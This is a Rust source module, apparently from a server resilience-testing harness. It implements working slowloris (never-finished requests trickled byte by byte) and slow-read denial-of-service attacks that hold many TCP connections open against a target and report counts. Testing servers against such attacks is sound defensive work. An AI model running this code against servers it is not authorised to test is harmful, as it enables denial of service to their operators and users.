//! Peers that take their time (slowloris and its mirror image), over the kernel's TCP: to the server
//! they are as real as any.

use std::io::{self, ErrorKind, Read, Write};
use std::net::{SocketAddrV4, TcpStream};
use std::time::{Duration, Instant};

use rustix::net::{AddressFamily, SocketFlags, SocketType, sockopt};

use super::{Figures, Strength};

/// How often each connection does something.
const STEP: Duration = Duration::from_secs(1);
/// Bytes of a reader's receive buffer; the kernel makes more of it.
const READ_BUFFER: usize = 2048;
const REQUEST: &[u8] = b"GET / HTTP/1.1\r\nHost: a\r\n\r\n";
/// A slow request begins with this and never ends.
const BEGINNING: &[u8] = b"GET / HTTP/1.1\r\nX: ";

pub(super) fn readers(to: SocketAddrV4, strength: &Strength) -> io::Result<Figures> {
    let requests = REQUEST.repeat(64);
    attack(
        to,
        strength,
        |stream| {
            // As many requests as the server takes, of whose answers one byte is read.
            while stream.write(&requests)? == requests.len() {}
            Ok(())
        },
        |stream| {
            if stream.read(&mut [0])? == 0 {
                return Err(ErrorKind::ConnectionReset.into());
            }
            while stream.write(&requests)? == requests.len() {}
            Ok(())
        },
    )
}

pub(super) fn writers(to: SocketAddrV4, strength: &Strength) -> io::Result<Figures> {
    attack(
        to,
        strength,
        |stream| stream.write_all(BEGINNING),
        |stream| {
            match stream.read(&mut [0]) {
                // The server has had enough, or says so.
                Ok(_) => Err(ErrorKind::ConnectionReset.into()),
                Err(error) if error.kind() == ErrorKind::WouldBlock => stream.write_all(b"x"),
                Err(error) => Err(error),
            }
        },
    )
}

/// Keeps so many connections open; each begins, and then does its step once a second.
fn attack(
    to: SocketAddrV4,
    strength: &Strength,
    begin: impl Fn(&mut TcpStream) -> io::Result<()>,
    step: impl Fn(&mut TcpStream) -> io::Result<()>,
) -> io::Result<Figures> {
    let begun = Instant::now();
    let mut places: Vec<Option<TcpStream>> = Vec::new();
    places.resize_with(strength.connections, || None);
    let (mut opened, mut refused, mut ended) = (0u64, 0u64, 0u64);
    let mut most = 0;
    while begun.elapsed() < strength.time {
        let round = Instant::now();
        for place in &mut places {
            if begun.elapsed() > strength.time {
                break;
            }
            let went_on = match place {
                Some(stream) => step(stream),
                None => match connect(to) {
                    Ok(mut stream) => {
                        opened += 1;
                        let result = begin(&mut stream);
                        *place = Some(stream);
                        result
                    }
                    Err(error) if is_refusal(&error) => {
                        refused += 1;
                        continue;
                    }
                    Err(error) => return Err(error),
                },
            };
            match went_on {
                Ok(()) => {}
                Err(error) if error.kind() == ErrorKind::WouldBlock => {}
                Err(_) => {
                    ended += 1;
                    *place = None;
                }
            }
        }
        most = most.max(places.iter().flatten().count() as u64);
        std::thread::sleep(STEP.saturating_sub(round.elapsed()));
    }
    Ok(vec![
        ("opened", opened),
        ("refused", refused),
        ("ended_by_server", ended),
        ("most_open", most),
    ])
}

fn is_refusal(error: &io::Error) -> bool {
    let refusals = [ErrorKind::ConnectionRefused, ErrorKind::ConnectionReset, ErrorKind::TimedOut];
    refusals.contains(&error.kind())
}

/// A connection that does not block, with a small receive buffer.
fn connect(to: SocketAddrV4) -> io::Result<TcpStream> {
    let flags = SocketFlags::CLOEXEC;
    let socket = rustix::net::socket_with(AddressFamily::INET, SocketType::STREAM, flags, None)?;
    sockopt::set_socket_recv_buffer_size(&socket, READ_BUFFER)?;
    sockopt::set_socket_timeout(&socket, sockopt::Timeout::Send, Some(Duration::from_secs(1)))?;
    match rustix::net::connect(&socket, &to) {
        Ok(()) => {}
        // The time limit for sending is one for connecting as well.
        Err(rustix::io::Errno::INPROGRESS) => return Err(ErrorKind::TimedOut.into()),
        Err(error) => return Err(error.into()),
    }
    let stream = TcpStream::from(socket);
    stream.set_nonblocking(true)?;
    Ok(stream)
}
